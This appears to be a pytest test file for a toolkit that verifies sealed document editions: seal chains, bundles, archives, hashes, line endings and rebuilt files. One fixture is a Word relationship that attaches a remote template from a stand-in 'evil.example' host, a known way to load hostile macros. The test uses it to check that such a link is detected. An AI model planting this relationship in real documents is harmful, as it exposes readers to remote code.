"""What is said of sealed editions, down to the last condition: files are a few bytes, nothing is rendered."""

import hashlib
import json
from dataclasses import replace

import pytest

from tests.editions.shelf import BUILT, FIRST, FORM, PDF, SECOND, THIRD, WORD, Shelf, row, word
from toolkit_builder.errors import EditionError
from toolkit_builder.machine.zips import unzipped, zipped
from toolkit_builder.publish import manifest
from toolkit_builder.publish import seal as form
from toolkit_builder.publish.archive import Archive
from toolkit_builder.publish.manifest import About
from toolkit_builder.publish.seal import Before, Sum, from_json
from toolkit_builder.publish.sums import unified
from toolkit_builder.publish.verify import check_chain, verify


@pytest.fixture
def shelf(tmp_path):
    """A shelf with one edition."""
    made = Shelf(tmp_path)
    made.add(FIRST)
    return made


@pytest.fixture
def three(tmp_path):
    """A shelf with three."""
    made = Shelf(tmp_path)
    made.add(FIRST)
    made.add(SECOND, 2, FIRST)
    made.add(THIRD, 3, SECOND)
    return made


def flip(path):
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)


def near(shelf):
    """How messages name the folder of the first edition."""
    return "/".join(shelf.folder().parts[-3:])


def test_all_is_as_it_was_sealed_and_all_is_hashed(shelf):
    (verdict,) = verify(shelf.places)

    assert (verdict.edition, verdict.problems, verdict.notes) == (FIRST, [], [])
    # Seal and bundle; five files in the folder; four in the archive.
    assert verdict.files == 2 + 5 + 4


# --- the chain -----------------------------------------------------------------------------------------


def test_a_whole_chain_is_good_and_one_edition_may_be_asked_for(three):
    assert [verdict.edition for verdict in verify(three.places)] == [FIRST, SECOND, THIRD]
    assert [(each.edition, each.files) for each in verify(three.places, SECOND)] == [(SECOND, 11)]
    check_chain(three.places)


def test_an_edition_that_is_not_sealed_cannot_be_asked_for(three):
    with pytest.raises(EditionError, match=r"P106 there is no sealed edition 2027\.1"):
        verify(three.places, "2027.1")


def test_the_files_of_other_editions_are_not_asked_for_and_their_seals_are(three):
    flip(three.folder(FIRST) / WORD)
    assert three.told(SECOND) == []

    three.reseal(FIRST, label="Another name")
    assert three.told(THIRD) == [
        "sources/harbor/editions/2026.2/seal.json P122 the seal before it (edition 2026.1) is not the one "
        "that it names"
    ]
    with pytest.raises(EditionError, match="P122 the seal before it"):
        check_chain(three.places)


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"toolkit": "other"}, "P121 this is a seal of another toolkit, other"),
        ({"edition": "2025.1"}, "P121 this is the seal of another edition, 2025.1"),
        ({"number": 2}, "P122 this is seal number 2, and number 1 belongs here: a seal is missing or old"),
        ({"number": 0}, "P122 this is seal number 0, and number 1 belongs here: a seal is missing or old"),
        (
            {"before": Before("2025.1", "0" * 64)},
            "P122 the seal before it (edition 2025.1) is not the one that it names",
        ),
    ],
)
def test_a_seal_in_a_place_that_is_not_its_own_is_named(shelf, changes, message):
    shelf.reseal(**changes)

    with pytest.raises(EditionError) as caught:
        check_chain(shelf.places)

    (problem,) = caught.value.problems
    assert str(problem).split("\n")[0] == f"sources/harbor/editions/2026.1/seal.json: {message}"


def test_a_seal_that_names_none_before_it_is_not_the_second(three):
    three.reseal(SECOND, before=None)

    assert three.told(SECOND)[0] == (
        "sources/harbor/editions/2026.2/seal.json P122 the seal before it (edition none) is not the one "
        "that it names"
    )


def test_after_a_seal_that_cannot_be_read_the_next_is_not_blamed(three):
    (three.seals(FIRST) / form.NAME).write_bytes(b"{}")

    first, second, third = verify(three.places)
    assert [problem.code for problem in first.problems] == ["P120"]
    assert (first.files, second.problems, third.problems) == (0, [], [])


def test_after_a_seal_that_cannot_be_read_the_one_after_the_next_is_held_to_the_chain(three):
    (three.seals(FIRST) / form.NAME).write_bytes(b"{}")
    three.reseal(THIRD, before=Before(SECOND, "0" * 64))

    assert [[problem.code for problem in each.problems] for each in verify(three.places)] == [
        ["P120"], [], ["P122"],
    ]  # fmt: skip


def test_a_wrong_folder_is_told_even_after_a_seal_that_cannot_be_read(three):
    (three.seals(FIRST) / form.NAME).write_bytes(b"{}")
    three.reseal(SECOND, toolkit="other", number=7)

    codes = [problem.code for problem in verify(three.places)[1].problems]
    assert ("P121" in codes, "P122" in codes) == (True, False)


def test_nothing_sealed_is_no_verdict(tmp_path):
    assert verify(Shelf(tmp_path).places) == ()
    check_chain(Shelf(tmp_path).places)


# --- bundle and archive --------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["sources/toolkit.yaml", "layouts/a.css", FORM])
def test_what_was_read_is_in_the_bundle_to_the_byte(shelf, name):
    seal = shelf.seal()

    def other(sums):
        return tuple(replace(each, sha256="0" * 64) if each.path == name else each for each in sums)

    shelf.reseal(inputs=other(seal.inputs), beside=other(seal.beside))

    place = "sources/harbor/editions/2026.1/bundle.zip"
    assert f"{place} P123 {name} is another in the bundle" in shelf.told()


def test_what_was_read_and_is_not_in_the_bundle_is_named_and_fonts_lie_elsewhere(shelf):
    seal = shelf.seal()
    shelf.reseal(inputs=(*seal.inputs, Sum("sources/more.yaml", 1, "0" * 64), Sum("fonts/b", 1, "0" * 64)))

    assert shelf.told() == [
        "sources/harbor/editions/2026.1/bundle.zip P123 sources/more.yaml is missing in the bundle",
        "sources/harbor/editions/2026.1/seal.json P141 it names other fonts than the bundle: fonts/b",
    ]


def test_without_its_bundle_the_rest_is_still_checked(shelf):
    (shelf.seals() / form.BUNDLE).unlink()
    flip(shelf.folder() / PDF)

    (verdict,) = verify(shelf.places)

    assert [problem.code for problem in verdict.problems] == ["P123", "P110"]
    assert verdict.files == 11


NOT_HERE = "archive/ does not hold its files: `toolkit regenerate 2026.1` puts them there"


def test_what_only_other_editions_hold_in_the_archive_does_not_make_an_edition_torn(tmp_path):
    shelf = Shelf(tmp_path)
    shelf.add(FIRST)
    letter = shelf.files[PDF]
    shelf.files[PDF] = b"%PDF-1.7 of another letter"
    shelf.add(SECOND, 2, FIRST)
    manifests = [(shelf.folder(edition) / manifest.NAME).read_bytes() for edition in (FIRST, SECOND)]

    shelf.archived(letter).unlink()
    shelf.archived(manifests[0]).unlink()
    assert (shelf.told(), shelf.notes()) == ([], [NOT_HERE])

    Archive(shelf.places.archive).put(manifests[0])
    assert [told.partition(" ")[2] for told in shelf.told()] == [f"P125 {PDF} is missing in the archive"]


def test_many_files_that_are_missing_are_one_problem(tmp_path):
    names = [f"harbor-p{number}-2026.1.pdf" for number in range(1, 6)]
    shelf = Shelf(tmp_path, {WORD: word("Dear families")} | {name: name.encode() for name in names})
    shelf.add(FIRST)
    for name in names[1:]:
        (shelf.folder() / name).unlink()
        shelf.archived(name.encode()).unlink()

    gone = f"{', '.join(names[1:4])} and 1 more, 4 of 8 files, are missing"
    assert [told.partition(" ")[2] for told in shelf.told()] == [
        f"P125 {gone} in the archive",
        f"P111 {gone}",
    ]


def test_an_archive_is_whole_or_elsewhere(shelf):
    kept = shelf.archived(shelf.files[WORD])
    place = f"archive/{kept.parent.name}/{kept.name}"

    data = kept.read_bytes()
    flip(kept)
    assert shelf.told() == [f"{place} P125 {WORD} is damaged in the archive"]
    kept.unlink()
    assert shelf.told() == [f"{place} P125 {WORD} is missing in the archive"]
    kept.write_bytes(data)
    for other in (shelf.files[PDF], b"{}\n", (shelf.folder() / manifest.NAME).read_bytes(), data):
        shelf.archived(other).unlink()
    assert (shelf.told(), shelf.notes()) == ([], [NOT_HERE])


def test_what_is_kept_once_for_two_names_is_told_once(tmp_path):
    shelf = Shelf(tmp_path, {WORD: word("Dear families"), PDF: b"{}\n"})
    shelf.add(FIRST)
    shelf.archived(b"{}\n").unlink()

    assert len(shelf.told()) == 1
    assert verify(shelf.places)[0].files == 2 + 5 + 2


# --- the folder ----------------------------------------------------------------------------------


def test_a_folder_that_is_not_there_is_a_note(shelf):
    shelf.folder().rename(shelf.root / "elsewhere")

    assert shelf.told() == []
    assert shelf.notes() == [f"its files are not in {near(shelf)}: `toolkit regenerate 2026.1`"]
    assert verify(shelf.places)[0].files == 6


@pytest.mark.parametrize("name", [WORD, PDF, FORM])
def test_a_file_is_what_was_sealed_to_the_byte(shelf, name):
    path = shelf.folder() / name
    data = path.read_bytes()

    flip(path)
    assert shelf.told() == [f"{near(shelf)}/{name} P110 {name} is not what was sealed"]
    path.write_bytes(data + b"\n")
    assert shelf.told() == [f"{near(shelf)}/{name} P110 {name} is not what was sealed"]
    path.write_bytes(data[:-1])
    short = f"P114 {name} is cut short: {len(data) - 1:,} of {len(data):,} bytes"
    assert shelf.told() == [f"{near(shelf)}/{name} {short}"]
    path.unlink()
    assert shelf.told() == [f"{near(shelf)}/{name} P111 {name} is missing"]


def test_a_file_of_another_name_is_told_once(shelf):
    (shelf.folder() / WORD).rename(shelf.folder() / "letter.docx")

    assert shelf.told() == [f"{near(shelf)}/{WORD} P113 {WORD} is called letter.docx now"]


def test_a_file_in_the_place_of_another_is_not_called_by_its_name(shelf):
    (shelf.folder() / WORD).rename(shelf.folder() / PDF)

    codes = [each.split(" ", 1)[1] for each in shelf.told()]
    assert codes == [f"P110 {PDF} is not what was sealed", f"P111 {WORD} is missing"]


def test_what_nobody_sealed_is_named(shelf):
    shelf.put({"more.pdf": b"x", "fields/p2.en-US.json": b"x"})

    assert [each.split(" ", 1)[1] for each in shelf.told()] == [
        "P112 fields/p2.en-US.json was not sealed",
        "P112 more.pdf was not sealed",
    ]


def test_each_problem_says_what_to_do(shelf):
    def hints():
        return [problem.hint for verdict in verify(shelf.places) for problem in verdict.problems]

    shelf.put({"more.pdf": b"x"})
    assert hints() == ["move it elsewhere"]
    (shelf.folder() / "more.pdf").unlink()
    flip(shelf.folder() / PDF)
    assert hints() == ["`toolkit build` or `toolkit regenerate` brings it back"]
    shelf.rebuild({PDF: shelf.files[PDF], WORD: word("Dear all")}, {**BUILT, "lxml": "6.0"})
    assert hints() == [""]
    shelf.archived(shelf.files[PDF]).unlink()
    assert hints()[0] == "`toolkit regenerate 2026.1` makes it again"


def test_a_part_of_an_edition_is_no_fault(shelf):
    """What `toolkit build PACKET` brings of a sealed edition."""
    row = shelf.seal().files[0]
    (shelf.folder() / PDF).unlink()
    (shelf.folder() / manifest.SUMS).unlink()
    (shelf.folder() / FORM).unlink()
    about = About("harbor", FIRST, "Label", ())
    shelf.put({manifest.NAME: manifest.as_json(about, [row], BUILT, complete=False, sealed=True)})

    told = "holds 2 of its 4 files: `toolkit regenerate 2026.1` makes all"
    assert shelf.notes() == [f"{near(shelf)} {told}"]
    assert shelf.told() == [f"{near(shelf)}/{FORM} P111 {FORM} is missing"]
    shelf.put({FORM: b"{}\n"})
    assert shelf.told() == []
    flip(shelf.folder() / WORD)
    assert shelf.told() == [f"{near(shelf)}/{WORD} P110 {WORD} is not what was sealed"]


REWRITERS = {
    "Windows": lambda data: data.replace(b"\n", b"\r\n"),
    "Notepad": lambda data: b"\xef\xbb\xbf" + data,
    "both": lambda data: b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n"),
}


@pytest.mark.parametrize("rewrite", REWRITERS.values(), ids=REWRITERS)
def test_line_ends_and_marks_that_tools_change_are_told_and_are_no_fault(three, rewrite):
    texts = [three.folder() / name for name in (manifest.NAME, manifest.SUMS, FORM)]
    for path in (*texts, *(three.seals(edition) / form.NAME for edition in (FIRST, SECOND, THIRD))):
        path.write_bytes(rewrite(path.read_bytes()))

    assert three.told() == []
    assert three.notes() == [f"3 files in {near(three)} differ in nothing but line ends"]
    check_chain(three.places)


@pytest.mark.parametrize("name", [manifest.NAME, manifest.SUMS, FORM])
def test_a_letter_beside_other_line_ends_is_a_fault(shelf, name):
    path = shelf.folder() / name
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n") + b" ")

    assert f"{near(shelf)}/{name}" in {told.partition(" ")[0] for told in shelf.told()}


@pytest.mark.parametrize("change", [b"a\rb", b"a\n\nb", b"a b", b"\xffa\nb"])
def test_only_line_ends_and_marks_do_not_count(change):
    assert unified("a.yaml", change) == change


@pytest.mark.parametrize("name", ["a.yaml", "b/c.SVG", "SHA256SUMS", "seal.json"])
def test_texts_have_one_sum_whatever_their_line_ends(name):
    assert unified(name, b"\xef\xbb\xbfa\r\nb\r\n") == b"a\nb\n"


@pytest.mark.parametrize(("name", "data"), [("a.png", b"a\r\nb"), ("a.docx", b"\r\n"), ("a.yaml", b"\0\r\n")])
def test_what_is_no_text_counts_to_the_byte(name, data):
    assert unified(name, data) == data


def test_sums_are_those_of_the_seal(shelf):
    path = shelf.folder() / manifest.SUMS
    data = path.read_bytes()

    path.write_bytes(data + b"\n")
    assert shelf.told() == [f"{near(shelf)}/SHA256SUMS P110 SHA256SUMS is not what was sealed"]
    path.unlink()
    assert shelf.told() == [f"{near(shelf)}/SHA256SUMS P111 SHA256SUMS is missing"]


NOT_WHOLE, NOT_SEALED = "is not a whole manifest", "is not the manifest that was sealed"


def edited(data, changes):
    """JSON with other values; where that is None, without it."""
    value = {**json.loads(data), **changes}
    kept = {name: each for name, each in value.items() if each is not None or name not in changes}
    return json.dumps(kept, indent=1, ensure_ascii=False).encode() + b"\n"


@pytest.mark.parametrize(
    ("name", "other", "said"),
    [
        ("files", None, NOT_WHOLE),
        ("edition", None, NOT_WHOLE),
        ("toolkit", None, NOT_WHOLE),
        ("sealed", None, NOT_WHOLE),
        ("files", [1], NOT_WHOLE),
        ("files", [{"path": "harbor-p1-2026.1.pdf"}], NOT_WHOLE),
        ("files", {"path": "harbor-p1-2026.1.pdf"}, NOT_WHOLE),
        ("built_with", None, NOT_WHOLE),
        ("built_with", ["lxml"], NOT_WHOLE),
        ("files", [], NOT_SEALED),
        ("label", "Other", NOT_SEALED),
        ("sealed", False, f"{NOT_SEALED}, it is one of a draft"),
        ("edition", "2025.1", f"{NOT_SEALED}, it is one of harbor 2025.1"),
        ("toolkit", "other", f"{NOT_SEALED}, it is one of other 2026.1"),
    ],
)
def test_a_manifest_is_the_one_that_was_sealed(shelf, name, other, said):
    path = shelf.folder() / manifest.NAME
    path.write_bytes(edited(path.read_bytes(), {name: other}))

    assert [each for each in shelf.told() if "P115" in each] == [
        f"{near(shelf)}/manifest.json P115 manifest.json {said}"
    ]


def test_a_draft_of_another_toolkit_is_named_by_that(shelf):
    path = shelf.folder() / manifest.NAME
    path.write_bytes(edited(path.read_bytes(), {"toolkit": "other", "sealed": False}))

    assert "it is one of other 2026.1" in shelf.told()[0]


def test_a_folder_without_a_manifest_is_checked_all_the_same(shelf):
    (shelf.folder() / manifest.NAME).unlink()
    flip(shelf.folder() / PDF)

    codes = [each.split(" ", 1)[1] for each in shelf.told()]
    assert codes == [
        "P111 manifest.json is missing",
        f"P110 {PDF} is not what was sealed",
        "P110 SHA256SUMS is not what was sealed",
    ]


# --- another renderer ----------------------------------------------------------------------------


def test_other_bytes_of_another_renderer_are_good_where_they_say_the_same(shelf):
    shelf.rebuild({WORD: word("Dear families", "other bytes")}, {"lxml": "6.0", "weasyprint": "70"})

    assert shelf.told() == []
    assert shelf.notes() == [
        "1 files were made by another renderer (lxml 6.0 instead of 5.0, weasyprint 70 instead of none): "
        "words and pages were compared"
    ]


def test_other_words_of_another_renderer_are_named(shelf):
    shelf.rebuild({WORD: word("Dear all")}, {**BUILT, "lxml": "6.0"})

    assert shelf.told() == [f"{near(shelf)}/{WORD} P116 {WORD} does not say what was sealed: other words"]


TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" TargetMode="External" Target="https://evil.example/x.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)


def test_the_same_words_of_another_renderer_lead_nowhere_else(shelf):
    evil = zipped({**unzipped(word("Dear families")), "word/_rels/settings.xml.rels": TEMPLATE})
    shelf.rebuild({WORD: evil}, {**BUILT, "lxml": "6.0"})

    (told,) = shelf.told()
    assert "P116" in told
    assert "it leads to attachedTemplate https://evil.example/x.dotm, which was not sealed" in told


def test_other_words_are_not_looked_for_without_the_bundle(shelf):
    shelf.rebuild({WORD: word("Dear all")}, {**BUILT, "lxml": "6.0"})
    (shelf.seals() / form.BUNDLE).unlink()

    assert [problem.code for problem in verify(shelf.places)[0].problems] == ["P123"]


def test_other_bytes_of_the_same_renderer_are_no_rebuild(shelf):
    shelf.rebuild({WORD: word("Dear families", "other bytes")}, BUILT)

    codes = [each.split(" ", 1)[1] for each in shelf.told()]
    assert codes == [
        "P115 manifest.json is not the manifest that was sealed",
        f"P110 {WORD} is not what was sealed",
    ]


def test_what_another_renderer_made_is_what_its_manifest_says(shelf):
    made = word("Dear families", "other bytes")
    shelf.rebuild({WORD: made}, {**BUILT, "lxml": "6.0"})

    (shelf.folder() / WORD).write_bytes(word("Dear families", "again other"))
    assert shelf.told() == [f"{near(shelf)}/{WORD} P110 {WORD} is not what its manifest says"]
    (shelf.folder() / WORD).unlink()
    assert shelf.told() == [f"{near(shelf)}/{WORD} P111 {WORD} is missing"]


def test_a_rebuild_has_every_file(shelf):
    shelf.rebuild({}, {**BUILT, "lxml": "6.0"}, [row(WORD, word("Dear families", "other bytes"))])

    assert "P115 manifest.json is not the manifest that was sealed" in shelf.told()[0]


def test_another_renderer_alone_is_no_reason_for_another_manifest(shelf):
    shelf.rebuild({}, {**BUILT, "lxml": "6.0"})

    assert [each.split(" ", 1)[1] for each in shelf.told()] == [
        "P115 manifest.json is not the manifest that was sealed"
    ]


def test_what_was_made_later_does_not_belong_to_the_edition(shelf):
    later = {"harbor-p1-press-2026.1.pdf": b"%PDF-1.7 for a printer"}
    rows = [row(name, data) for name, data in {**shelf.files, **later}.items()]
    shelf.rebuild({**later, "manuscripts/p1.en-US.html": b"<main/>"}, BUILT, rows)

    assert shelf.told() == []
    assert shelf.notes() == ["2 files were made later and do not belong to the edition"]
    flip(shelf.folder() / "harbor-p1-press-2026.1.pdf")
    assert [each.split(" ", 1)[1] for each in shelf.told()] == [
        "P112 harbor-p1-press-2026.1.pdf was not sealed"
    ]


def test_versions_that_differ_are_told_and_those_that_only_a_seal_names_are_not():
    then = {"a": "1", "b": "1", "soffice": "24"}

    assert manifest.other_versions(then, {"a": "1", "b": "2", "c": "3"}) == (("b", "1", "2"), ("c", "", "3"))


# --- the seal ------------------------------------------------------------------------------------


def test_a_seal_is_written_and_read_again(three):
    for edition in (FIRST, SECOND):
        data = (three.seals(edition) / form.NAME).read_bytes()

        assert form.as_json(from_json(data, "seal.json")) == data
    assert three.seal(FIRST).before is None
    assert three.seal(SECOND).before == three.named(FIRST)
    assert three.seal().outputs[:2] == tuple(
        Sum(name, len(data), hashlib.sha256(data).hexdigest()) for name, data in three.files.items()
    )
    assert [each.path for each in three.seal().outputs] == [WORD, PDF, FORM, manifest.NAME]
    assert list(three.seal().sources) == ["toolkit.yaml"]


def test_a_seal_has_its_rows_by_path_and_its_letters_as_they_are(shelf):
    seal = replace(shelf.seal(), title="Häfen")
    turned = replace(
        seal, files=seal.files[::-1], inputs=seal.inputs[::-1], built_with=dict(reversed(BUILT.items()))
    )

    assert form.as_json(turned) == form.as_json(seal)
    assert "Häfen".encode() in form.as_json(seal)
    assert form.as_json(seal).startswith(b'{\n "schema": 1,\n "toolkit": "harbor",\n')


@pytest.mark.parametrize(
    ("name", "other"),
    [
        ("schema", 2), ("schema", 0), ("schema", None), ("sum", None), ("sum", "0" * 64), ("label", "Other"),
        ("more", "more"), ("number", None), ("files", [{}]), ("bundle", []), ("inputs", []), ("inputs", None),
    ],
)  # fmt: skip
def test_a_seal_that_another_hand_wrote_is_refused(shelf, name, other):
    data = edited((shelf.seals() / form.NAME).read_bytes(), {name: other})

    with pytest.raises(EditionError, match="P120 this is not a whole seal"):
        from_json(data, "seal.json")


@pytest.mark.parametrize("data", [b"[]", b"", b"\xff", b"1"])
def test_what_is_no_seal_at_all_is_refused(data):
    with pytest.raises(EditionError, match="P120 this is not a whole seal"):
        from_json(data, "seal.json")


def test_a_seal_in_another_form_of_the_same_is_refused(shelf):
    value = json.loads((shelf.seals() / form.NAME).read_bytes())

    with pytest.raises(EditionError, match="P120"):
        from_json(json.dumps(value).encode(), "seal.json")
